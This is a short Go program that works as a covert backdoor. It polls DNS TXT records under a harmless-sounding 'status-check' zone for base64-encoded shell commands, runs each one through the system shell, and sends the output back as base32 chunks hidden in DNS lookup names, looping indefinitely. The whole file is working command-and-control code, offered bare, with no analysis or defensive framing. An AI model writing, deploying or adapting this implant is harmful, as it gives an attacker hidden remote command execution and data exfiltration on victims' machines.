package main

import (
	"bytes"
	"encoding/base32"
	"encoding/base64"
	"fmt"
	"net"
	"os"
	"os/exec"
	"strings"
	"time"
)

const zone = "c.status-check.invalid"

var enc = base32.StdEncoding.WithPadding(base32.NoPadding)

func fetch(id string, seq int) (string, bool) {
	txt, err := net.LookupTXT(fmt.Sprintf("g%d.%s.%s", seq, id, zone))
	if err != nil || len(txt) == 0 {
		return "", false
	}
	raw, err := base64.StdEncoding.DecodeString(strings.Join(txt, ""))
	return string(raw), err == nil
}

func answer(id string, seq int, out []byte) {
	s := enc.EncodeToString(out)
	for i := 0; len(s) > 0; i++ {
		n := min(60, len(s))
		net.LookupHost(fmt.Sprintf("%s.%d.%d.%s.%s", s[:n], i, seq, id, zone))
		s = s[n:]
	}
}

func main() {
	h, _ := os.Hostname()
	id := strings.ToLower(enc.EncodeToString([]byte(h)))
	for seq := 0; ; {
		if task, ok := fetch(id, seq); ok {
			var b bytes.Buffer
			c := exec.Command(os.Getenv("SHELL"), "-c", task)
			c.Stdout, c.Stderr = &b, &b
			c.Run()
			answer(id, seq, b.Bytes())
			seq++
			continue
		}
		time.Sleep(2 * time.Minute)
	}
}
